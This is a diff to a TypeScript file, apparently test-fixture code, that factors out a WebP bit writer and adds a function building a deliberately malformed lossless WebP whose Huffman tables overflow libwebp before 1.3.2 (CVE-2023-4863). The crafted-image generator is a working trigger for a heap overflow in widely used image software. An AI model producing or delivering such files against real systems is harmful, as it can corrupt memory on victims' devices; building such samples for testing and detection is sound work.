@@ -162,12 +162,9 @@ export function riffChunk(name: string, content: Uint8Array): Buffer {
 export const riff = (...chunks: Buffer[]): Buffer =>
 	riffChunk('RIFF', Buffer.concat([Buffer.from('WEBP'), ...chunks]));
 
-/**
- * The chunk of a lossless WebP: every pixel is eight bits of green, from which the transform that
- * subtracts green makes red and blue.
- */
-export function vp8l({ width, height, pixels }: Picture): Buffer {
-	const bytes = [0x2f];
+/** Bits as a lossless WebP has them: the lowest one first, of a value as of a byte. */
+function bitWriter() {
+	const bytes: number[] = [];
 	let [held, count] = [0, 0];
 	const write = (value: number, bits: number) => {
 		for (let bit = 0; bit < bits; bit++) {
@@ -178,6 +175,16 @@ export function vp8l({ width, height, pixels }: Picture): Buffer {
 			}
 		}
 	};
+	return { bytes, write };
+}
+
+/**
+ * The chunk of a lossless WebP: every pixel is eight bits of green, from which the transform that
+ * subtracts green makes red and blue.
+ */
+export function vp8l({ width, height, pixels }: Picture): Buffer {
+	const { bytes, write } = bitWriter();
+	write(0x2f, 8);
 	const writeOnly = (symbol: number) => (symbol ? write(0b101 | (symbol << 3), 11) : write(1, 4));
 	write(width - 1, 14);
 	write(height - 1, 14);
@@ -200,6 +207,41 @@ export function vp8l({ width, height, pixels }: Picture): Buffer {
 }
 
 export const webp = (picture: Picture): Buffer => riff(vp8l(picture));
+
+/**
+ * A WebP whose codes need longer tables than libwebp before 1.3.2 has room for (CVE-2023-4863): four
+ * codes take all that valid ones can, and the last, which has gaps, takes 132 entries too many.
+ */
+export function webpOfLongTables(): Buffer {
+	const { bytes, write } = bitWriter();
+	write(0x2f, 8);
+	write(3, 14);
+	write(3, 14);
+	write(0, 7); // No alpha, version 0, no transform, no cache, one group of codes.
+	// Of each alphabet its size, and how many of its symbols have codes of 1, 2, … 15 bits.
+	const colour = [1, 1, 0, 0, 0, 0, 0, 0, 67, 85, 49, 49, 1, 1, 2];
+	const alphabets: Array<[number, number[]]> = [
+		[280, [1, 1, 0, 0, 0, 0, 0, 0, 59, 101, 49, 33, 33, 1, 2]],
+		[256, colour],
+		[256, colour],
+		[256, colour],
+		[40, [0, 0, 0, 0, 0, 0, 0, 0, 19, 12, 3, 1, 1, 1, 3]],
+	];
+	for (const [size, counts] of alphabets) {
+		write(0, 1);
+		write(19 - 4, 4);
+		// A length is written as it is, in four bits; those that repeat others are not used.
+		for (let index = 0; index < 19; index++) write([0, 1, 8].includes(index) ? 0 : 4, 3);
+		write(0, 1);
+		const lengths = counts.flatMap((count, index) => Array<number>(count).fill(index + 1));
+		for (let symbol = 0; symbol < size; symbol++) {
+			for (let bit = 3; bit >= 0; bit--) write((lengths[symbol] ?? 0) >> bit, 1);
+		}
+	}
+	// A decoder that has come to the end of its bytes builds no table.
+	for (let byte = 0; byte < 16; byte++) write(0, 8);
+	return riff(riffChunk('VP8L', new Uint8Array(bytes)));
+}
 
 /** A part of an e-mail: what stands in its headers, and its content, in base64 where it is a file. */
 export type MailPart = {
